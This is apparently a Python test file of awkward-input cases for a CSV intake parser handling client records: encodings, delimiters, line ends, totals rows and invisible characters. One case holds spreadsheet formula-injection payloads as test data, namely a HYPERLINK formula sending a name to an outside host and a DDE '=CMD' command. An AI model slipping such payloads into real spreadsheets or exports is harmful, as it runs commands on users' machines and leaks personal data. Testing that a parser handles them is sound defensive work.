"""Nasty text files: encodings, delimiters, line ends, quotes, headers and totals in odd places."""

from tests.intake.nasty.case import EMAIL, HEADER, NAME, STREET, TELEPHONE, case, person, text_of

TWO = [HEADER, person(1), person(2, needs="Food;Rent")]
SIMPLE = ("received 2, loaded 2", "2 0 2 3 0 3 3")
ACCENTS = [HEADER, person(1, needs="Pañales"), person(2, needs="Alimentación; Pañales")]
SPANISH = {"need": '{"Pañales": diapers, "Alimentación": groceries}'}
TOTALS = 'totals_row: {column: "Record", starts_with: "total"}\n'
NBSP, ZERO_WIDTH = "\u00a0", "\u200b"

CASES = (
    case("mark of UTF-8 in front", "\ufeff" + text_of(TWO), *SIMPLE),
    case("Latin-1 with accents", text_of(ACCENTS).encode("latin-1"), *SIMPLE, codes=SPANISH),
    case(
        "Windows-1252 with typographic quotes",
        text_of([HEADER, person(1, needs="Baby’s food"), person(2, needs="“Rent”; Baby's food")]).encode(
            "cp1252"
        ),
        *SIMPLE,
        codes={"need": """{"Baby's food": infant_formula, "“Rent”": rent}"""},
    ),
    case(
        "UTF-16 as Excel's Unicode text", text_of(TWO, delimiter="\t").encode("utf-16"), *SIMPLE, ending="txt"
    ),
    case("UTF-16 without its mark", text_of(ACCENTS).encode("utf-16-le"), *SIMPLE, codes=SPANISH),
    case(
        "semicolons, as Excel writes in Spanish, around many needs",
        text_of([HEADER, person(1), person(2, needs="Food/Rent")], delimiter=";"),
        *SIMPLE,
        columns={"Needs": '{role: need, many: "/"}'},
    ),
    case("tabs in a file called CSV", text_of(TWO, delimiter="\t"), *SIMPLE),
    case("upright strokes", text_of(TWO, delimiter="|"), *SIMPLE),
    case("lines that end as on an old Mac", text_of(TWO, end="\r"), *SIMPLE),
    case(
        "two kinds of line ends",
        text_of(TWO, end="\r\n") + text_of([person(3)]),
        "received 3, loaded 3",
        "3 0 3 4 0 4 4",
    ),
    case(
        "new lines and quotation marks inside notes",
        [
            HEADER,
            person(1, comments=f'she said "call"\nat {TELEPHONE}\n\n{STREET}'),
            person(2, asked_on="soon"),
        ],
        "received 2, loaded 1, quarantined:bad_date 1",
        "1 0 1 1 0 1 1",
    ),
    case(
        "titles and an empty line above the header",
        f"Stoop Collective;;\nprinted for {NAME}\n\n" + text_of(TWO),
        *SIMPLE,
    ),
    case(
        "a row of totals at the end",
        [*TWO, ["Total", "", "", "", "", "3 needs", "", "", ""]],
        "received 3, loaded 2, not_a_record:total 1",
        "2 0 2 3 0 3 3",
        mapping=TOTALS,
    ),
    case(
        "totals by week and a grand total",
        [
            HEADER,
            person(1),
            ["TOTAL week 10", *[""] * 7, "1"],
            person(8),
            ["total week 11", *[""] * 8],
            ["Total", *[""] * 7, "2"],
        ],
        "received 5, loaded 2, not_a_record:total 3",
        "2 0 2 2 0 2 2",
        mapping=TOTALS,
    ),
    case(
        "the header once more where files were glued together",
        text_of(TWO) + text_of([HEADER, person(3)]),
        "received 4, loaded 3, not_a_record:header 1",
        "3 0 3 4 0 4 4",
    ),
    case("a comma too many at the end of each line", text_of(TWO).replace("\n", ",\n"), *SIMPLE),
    case(
        "empty rows, rows of spaces and rows of commas",
        text_of([HEADER, [""] * 9, person(1), [" "] * 9, [NBSP] * 9, [ZERO_WIDTH, *[""] * 8], person(2)])
        + "\n\n,,,,,,,,\n",
        "received 2, loaded 2",
        "2 0 2 2 0 2 2",
    ),
    case(
        "a comma that nobody quoted",
        text_of([HEADER, person(1), [*person(2), f"and {EMAIL}"], person(3)]),
        "received 3, loaded 2, quarantined:too_many_cells 1",
        "2 0 2 2 0 2 2",
    ),
    case(
        "rows that end early",
        text_of([HEADER, person(1), person(2)[:6], person(3)[:3]]),
        "received 3, loaded 2, quarantined:no_date 1",
        "2 0 2 2 0 2 2",
    ),
    case(
        "headers with spaces, capitals and a line break",
        text_of(
            [
                [
                    "  RECORD ",
                    "client",
                    "Family" + NBSP,
                    "Asked\n on",
                    "ÁREA",
                    "needs",
                    "Outcome",
                    "closed  on",
                    "Comments",
                ],
                *TWO[1:],
            ]
        ),
        *SIMPLE,
    ),
    case(
        "signs that no one sees and capitals in cells",
        text_of(
            [
                HEADER,
                person(1, needs=f"{ZERO_WIDTH}FOOD{NBSP}", area=" b0d0n00 "),
                person(2, needs="fOOD ;rent"),
            ]
        ),
        *SIMPLE,
    ),
    case(
        "formulas in cells",
        text_of(
            [
                HEADER,
                person(1, comments=f'=HYPERLINK("http://example.org?q={NAME}")'),
                person(2, needs="=CMD|' /C calc'!A0"),
                person(3, outcome="@SUM(A1:A9)"),
            ]
        ),
        "received 3, loaded 3",
        "3 0 3 3 0 3 3",
    ),
    case(
        "a note of two million letters",
        text_of([*TWO, person(3, comments=f"{NAME} " * 150_000)]),
        "received 3, loaded 3",
        "3 0 3 4 0 4 4",
    ),
    case(
        "a title and a header without rows",
        f"Log of {NAME}\n" + text_of([HEADER]),
        "received 0, loaded 0",
        "0 0 0 0 0 0 0",
    ),
    case(
        "quotation marks around everything and spaces after commas",
        text_of(TWO).replace("R1,", '"R1",').replace("R2,", '"R2",'),
        *SIMPLE,
    ),
)
